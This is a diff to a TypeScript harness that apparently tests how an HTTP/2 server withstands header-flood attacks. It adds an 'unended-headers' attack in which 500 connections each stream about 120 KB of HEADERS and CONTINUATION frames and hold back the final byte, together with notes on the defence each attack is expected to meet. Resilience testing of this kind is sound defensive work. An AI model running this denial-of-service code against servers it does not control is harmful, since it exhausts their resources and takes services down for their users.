@@ -15,6 +15,9 @@ const tableEntry = kept('x', 'v'.repeat(3_900));
 // 16 references stand for 62 KB. More references would stand for more, if the server took them.
 const referencesPerCall = [16, 120, 4_000];
 const callsOpenMax = 900;
+// HTTP/2 takes up to 64 KB for a name, and as much for a value.
+const unendedBytes = 60_000;
+const acknowledgedMs = 300;
 
 async function amplify(attacker: Attacker): Promise<void> {
   await keepHttp2(attacker, { times: attacker.share(8) }, async (connection) => {
@@ -46,6 +49,26 @@ async function continueForever(
       attacker.count('frames', framesPerWrite);
     }
     connection.reset();
+  });
+}
+
+/** Sends most of two long headers on each connection, and no more. */
+async function beginHeaders(attacker: Attacker): Promise<void> {
+  const block = Buffer.concat([
+    callHeaders('/MessageService/Login'),
+    literal('x'.repeat(unendedBytes), 'v'.repeat(unendedBytes)).subarray(0, -1),
+  ]);
+  await keepHttp2(attacker, { times: attacker.share(500) }, async (connection) => {
+    // Nothing may come in between, so the limits of the server are acknowledged before.
+    await attacker.pause(acknowledgedMs);
+    const stream = connection.nextStream();
+    for (let at = 0; at < block.length; at += framePayloadBytesMax) {
+      const type = at === 0 ? FrameType.headers : FrameType.continuation;
+      const payload = block.subarray(at, at + framePayloadBytesMax);
+      await connection.write(frame(type, Flag.none, stream, payload));
+    }
+    attacker.count('headers');
+    await Promise.race([connection.closed, attacker.over]);
   });
 }
 
@@ -87,6 +110,14 @@ export const headerFloods: readonly Attack[] = [
     does: 'the same in frames of no bytes',
     heldBy: 'HTTP/2 bounds how many frames the headers of a call may take',
     run: (attacker) => continueForever(attacker, Buffer.alloc(0), 500),
+  },
+  {
+    name: 'unended-headers',
+    family: 'http2',
+    does: '500 connections with 120 KB of headers that do not end, and then nothing',
+    heldBy: 'the account of a connection pays for them; a client that answers no PING is cut',
+    processes: 2,
+    run: beginHeaders,
   },
   {
     name: 'header-lines-flood',
